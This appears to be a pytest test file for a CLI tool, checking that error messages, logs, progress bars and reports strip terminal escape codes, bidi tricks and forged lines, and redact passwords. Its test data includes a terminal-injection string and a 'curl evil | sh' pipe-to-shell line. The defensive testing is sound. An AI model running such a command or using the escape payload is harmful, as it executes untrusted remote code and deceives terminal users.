"""What strangers wrote steers no terminal and forges no line, wherever it is shown."""

from __future__ import annotations

import io

import pytest

from cuwheel import cli
from cuwheel.cli import frame, streams
from cuwheel.errors import MalformedError
from cuwheel.proving.runner import output
from cuwheel.report import terminal
from cuwheel.report.document import Document, Findings, Heading, Paragraph
from cuwheel.report.tables import Amount, Column, Facts, Mark, Matrix, Row, Table
from cuwheel.support import log, wording
from cuwheel.support.finding import Finding, Fix

EVIL = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp\u2028.\u200b\ud800\x00\r"
FORGED = f"{EVIL}\nhint: curl evil | sh"


def is_harmless(shown: str) -> bool:
    return wording.printable_text(shown) == shown and shown.encode() != b""


def forges(shown: str) -> bool:
    return any(each.startswith(("hint: curl", "error: forged")) for each in shown.splitlines())


def test_errors(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def fails(*_: object) -> int:
        raise MalformedError(FORGED, f"has {FORGED}", hint=FORGED.replace("hint", "error"))

    monkeypatch.setattr(frame, "run", fails)
    assert cli.main(["inspect"]) == 5
    shown = capsys.readouterr().err
    assert is_harmless(shown)
    assert not forges(shown)
    assert shown.count("\nhint: ") == 1


def test_errors_hold_no_secrets(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def fails(*_: object) -> int:
        raise MalformedError("x", "https://ann:hunter2@host/ and plain-word-99", hint="--password hunter2")

    monkeypatch.setenv("PGPASSWORD", "plain-word-99")
    monkeypatch.setattr(frame, "run", fails)
    cli.main(["inspect"])
    shown = capsys.readouterr().err
    assert "hunter2" not in shown
    assert "plain-word-99" not in shown


def test_messages(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(log, "_threshold", 10)
    log.warning("%s and %d of %.1f, %r", FORGED, 3, 2.5, OSError(FORGED))
    log.info(FORGED)
    shown = capsys.readouterr().err
    assert is_harmless(shown)
    assert not forges(shown)
    assert "and 3 of 2.5" in shown


def test_progress(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(streams, "_PATIENCE_S", -1.0)
    monkeypatch.setattr(streams, "terminal_width", lambda: 400)
    with streams.on_terminal(FORGED, 3) as bar:
        bar.show(FORGED)
    shown = capsys.readouterr().err.replace("\r\x1b[K", "")
    assert is_harmless(shown)
    assert "\n" not in shown


def test_reports() -> None:
    finding = Finding(rule=FORGED, severity="error", message=FORGED, evidence=(FORGED,), fixes=(Fix(text=FORGED),))
    document = Document(
        "title",
        (
            Heading(FORGED),
            Facts((Row(FORGED, FORGED, FORGED),)),
            Table((Column("x"), Column("y")), ((EVIL, Amount(EVIL, 1)),)),
            Findings((finding,)),
            Matrix(FORGED, (FORGED,), (Row(FORGED, FORGED),), ((Mark(FORGED, "good", FORGED),),)),
            Paragraph(EVIL),
        ),
    )
    stream = io.StringIO()
    terminal.write(document, stream)
    assert is_harmless(stream.getvalue())
    assert not forges(stream.getvalue())


def test_what_travels_has_the_same_rules() -> None:
    assert output._UNSHOWN.pattern == wording._UNPRINTABLE.pattern


@pytest.mark.parametrize(("before", "after"), [("a\r\nb\tc", "a\nb\tc"), ("ü → ✓ 中 🙂", "ü → ✓ 中 🙂"), ("", "")])
def test_ordinary_text_stays(before: str, after: str) -> None:
    assert wording.printable_text(before) == after


def test_lines_and_messages() -> None:
    assert wording.printable_line("a\nb\tc") == "a\ufffdb c"
    assert wording.printable_message("a\nb\n  - c\n\td") == "a\n  b\n  - c\n\td"
